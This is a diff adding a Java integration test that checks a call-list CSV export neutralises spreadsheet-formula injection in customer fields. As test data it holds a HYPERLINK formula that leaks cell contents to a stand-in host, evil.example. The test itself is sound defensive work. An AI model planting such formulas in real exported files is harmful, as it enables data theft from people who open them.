@@ -90,6 +90,34 @@ class CallListIT {
     }
 
     @Test
+    void aCustomerNamedLikeASpreadsheetFormulaComesOutOfTheCsvAsText() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";
+        String customer = team.tag + "-FORMULA";
+        Api.Reply imported = api.asAdmin().postCsv("api/import/customers", Csv.lines(
+                "external_id,company,preferred_name,phone,email,time_zone,owner",
+                customer + ",\"" + formula.replace("\"", "\"\"") + "\",@SUM(1+1),+49 30 1234,formula@evil.example,Europe/Berlin,"
+                        + team.a));
+        assertThat(imported.status()).as(imported.toString()).isEqualTo(200);
+        assertThat(api.asAdmin().postJson("api/planning/run", "").status()).isEqualTo(200);
+
+        Api.Reply csv = team.as(team.a).get(path(team.a) + ".csv");
+        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
+        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader()
+                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.body())).getRecords();
+        assertThat(rows).anySatisfy(r -> {
+            assertThat(r.get("customer")).isEqualTo(customer);
+            assertThat(r.get("company")).isEqualTo("'" + formula);
+            assertThat(r.get("preferred_name")).isEqualTo("'@SUM(1+1)");
+            assertThat(r.get("phone")).isEqualTo("'+49 30 1234");
+        });
+        assertThat(rows).allSatisfy(r -> r.forEach(cell ->
+                assertThat(cell).as("no cell a spreadsheet would run").doesNotStartWith("=").doesNotStartWith("+")
+                        .doesNotStartWith("-").doesNotStartWith("@")));
+        assertThat(item(list(team.as(team.a), team.a), customer).getString("company"))
+                .as("the JSON list shows the name as it is").isEqualTo(formula);
+    }
+
+    @Test
     void outcomesFollowTheRulesAndOnlyTheOwnerRecordsThem() {
         long id = item(list(team.as(team.a), team.a), team.customerOfA).getInt("id");
         assertThat(outcome(team.as(team.c), id, "{\"outcome\":\"REACHED\"}").status()).as("someone else's item").isEqualTo(403);
